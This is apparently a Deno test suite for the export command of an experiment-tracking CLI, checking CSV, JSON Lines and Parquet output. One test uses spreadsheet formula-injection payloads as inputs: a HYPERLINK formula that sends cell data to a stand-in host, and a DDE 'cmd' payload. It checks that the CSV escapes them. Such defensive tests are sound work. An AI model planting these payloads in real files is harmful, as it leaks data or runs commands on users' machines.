import { assertEquals, assertStringIncludes } from "@std/assert";
import { parquetReadObjects } from "npm:hyparquet@1.33.0";
import { parseRecords } from "../../src/datasets/csv_parser.ts";
import { addRun, emptyJournal } from "../record/filled.ts";
import { nbtrack, nbtrackJson } from "./nbtrack.ts";

interface Written {
  file: string;
  rows: number;
  columns: string[];
}

const RUN_COLUMNS = [
  "run_id",
  "experiment",
  "name",
  "status",
  "start_time",
  "end_time",
  "seed",
];

function filled() {
  const made = emptyJournal();
  const first = addRun(made.journal, {
    name: 'with, comma and "quotes"',
    seed: 41,
    params: { k: "5", note: "two\nlines" },
    metrics: { loss: [0.5, 0.25], bad: [NaN] },
    tags: { team: "birds" },
  });
  const second = addRun(made.journal, {
    params: { k: "" },
    metrics: { loss: [Infinity] },
    end: null,
  });
  return { ...made, first, second };
}

Deno.test("runs are exported as CSV that other programs read, a missing value unlike an empty text", async () => {
  using made = filled();
  const written = await nbtrackJson(["export", "runs.csv"], made) as Written;
  assertEquals(written.rows, 2);
  assertEquals(written.columns, [
    ...RUN_COLUMNS,
    "params.k",
    "params.note",
    "metrics.bad",
    "metrics.loss",
    "tags.team",
  ]);
  const text = await Deno.readTextFile(`${made.home}/runs.csv`);
  const [head, ...rows] = text.trimEnd().split("\r\n");
  assertEquals(head, written.columns.join(","));
  const one = rows.find((row) => row.startsWith(made.first)) ?? "";
  assertStringIncludes(one, '"with, comma and ""quotes"""');
  assertStringIncludes(one, ',41,5,"two\nlines",NaN,0.25,birds');
  const other = rows.find((row) => row.startsWith(made.second)) ?? "";
  assertEquals(other.endsWith(',"",,,Infinity,'), true, other);
});

Deno.test("no text of a run is a formula in its CSV, each can be had back, and other formats have it as it was", async () => {
  using made = emptyJournal();
  const texts = [
    `=HYPERLINK("http://h/?"&A1,"x")`,
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\uff1d1+1",
    "'=1",
    "-0.5",
    "+1e-3",
    "plain",
    "'tis",
  ];
  for (const text of texts) {
    addRun(made.journal, {
      name: text,
      experiment: text,
      params: { p: text },
      tags: { "=t": text },
    });
  }
  await nbtrackJson(["export", "runs.csv"], made);
  const csv = await Deno.readTextFile(`${made.home}/runs.csv`);
  const [head = [], ...rows] = parseRecords(
    csv.replaceAll("\r\n", "\n"),
    { delimiter: "," },
    true,
  ).data;
  const column = head.indexOf("params.p");
  const stored = rows.filter((row) => row.length > 1).map((row) => row[column]);
  for (const field of [...head, ...rows.flat()]) {
    assertEquals(
      /^[=+\-@\t\uff1d]/.test(field) && !Number.isFinite(Number(field)),
      false,
      field,
    );
  }
  assertEquals(
    stored.map((text) => text?.replace(/^'(?='*[=+\-@\t\uff1d])/, "")).sort(),
    texts.toSorted(),
  );
  await nbtrackJson(["export", "runs.jsonl"], made);
  const lines = (await Deno.readTextFile(`${made.home}/runs.jsonl`))
    .trimEnd().split("\n").map((line) => JSON.parse(line)["params.p"]);
  assertEquals(lines.sort(), texts.toSorted());
});

Deno.test("runs are exported as JSON Lines and Parquet with the same values", async () => {
  using made = filled();
  const { rows } = await nbtrackJson(["export", "runs.jsonl"], made) as Written;
  assertEquals(rows, 2);
  const lines = (await Deno.readTextFile(`${made.home}/runs.jsonl`))
    .trimEnd().split("\n").map((line) => JSON.parse(line));
  const first = lines.find((line) => line.run_id === made.first);
  assertEquals([first["metrics.bad"], first["metrics.loss"]], ["NaN", 0.25]);
  assertEquals(typeof first.start_time, "number");
  const second = lines.find((line) => line.run_id === made.second);
  assertEquals([second["params.note"], second.end_time], [null, null]);

  await nbtrackJson(["export", "runs.parquet"], made);
  const bytes = await Deno.readFile(`${made.home}/runs.parquet`);
  const table = await parquetReadObjects({ file: bytes.buffer });
  const row = table.find((r) => r["run_id"] === made.first);
  assertEquals(Number.isNaN(row?.["metrics.bad"]), true);
  assertEquals(row?.["metrics.loss"], 0.25);
  assertEquals(row?.["start_time"].getTime(), first.start_time);
  const open = table.find((r) => r["run_id"] === made.second);
  assertEquals(open?.["end_time"] ?? null, null);
  assertEquals(open?.["metrics.loss"], Infinity);
});

Deno.test("points are exported one a row, in the order they were logged", async () => {
  using made = filled();
  for (const format of ["csv", "jsonl", "parquet"]) {
    const { rows, columns } = await nbtrackJson(
      ["export", "table", "--points", "--format", format],
      made,
    ) as Written;
    assertEquals(rows, 4, format);
    assertEquals(columns, [
      "run_id",
      "experiment",
      "name",
      "metric",
      "step",
      "timestamp",
      "value",
    ]);
  }
  const table = await parquetReadObjects({
    file: (await Deno.readFile(`${made.home}/table`)).buffer,
  });
  const losses = table.filter((row) =>
    row["run_id"] === made.first && row["metric"] === "loss"
  );
  assertEquals(losses.map((row) => [row["step"], row["value"]]), [
    [0, 0.5],
    [1, 0.25],
  ]);
});

Deno.test("an export that cannot be written, of no such experiment or in no such format gets one sentence", async () => {
  using made = filled();
  const cases: [string[], string][] = [
    [["export", "no/such/folder/runs.csv"], "folder"],
    [["export", "."], "it is a folder"],
    [["export", "runs.csv", "--experiment", "pinguins"], "penguins"],
    [["export", "runs.csv", "--format", "xls"], "csv"],
    [["export", "runs.xls"], "its ending names no format"],
  ];
  for (const [args, says] of cases) {
    const { code, stderr } = await nbtrack(args, made);
    assertEquals(code, 2, stderr);
    assertStringIncludes(stderr, says);
  }
  const left = [...Deno.readDirSync(made.home)].filter((entry) =>
    entry.name.endsWith(".tmp")
  );
  assertEquals(left, []);
});

Deno.test("minus zero is printed and exported with its sign", async () => {
  using made = emptyJournal();
  const run = addRun(made.journal, { metrics: { loss: [0, -0] } });
  const { runs: [listed] } = await nbtrackJson(["runs"], made) as {
    runs: { metrics: { loss: number } }[];
  };
  assertEquals(listed?.metrics.loss, -0);
  const points = await nbtrackJson(["show", run, "--metric", "loss"], made) as {
    points: { value: number }[];
  };
  assertEquals(points.points.map(({ value }) => value), [0, -0]);
  const { stdout } = await nbtrack(["show", run], made);
  assertStringIncludes(stdout.replaceAll(/ +/g, " "), "loss -0");
  await nbtrackJson(["export", "runs.csv"], made);
  assertStringIncludes(await Deno.readTextFile(`${made.home}/runs.csv`), ",-0");
  await nbtrackJson(["export", "runs.jsonl"], made);
  const line = JSON.parse(await Deno.readTextFile(`${made.home}/runs.jsonl`));
  assertEquals(line["metrics.loss"], -0);
  await nbtrackJson(["export", "runs.parquet"], made);
  const { buffer } = await Deno.readFile(`${made.home}/runs.parquet`);
  const [row] = await parquetReadObjects({ file: buffer });
  assertEquals(row?.["metrics.loss"], -0);
});
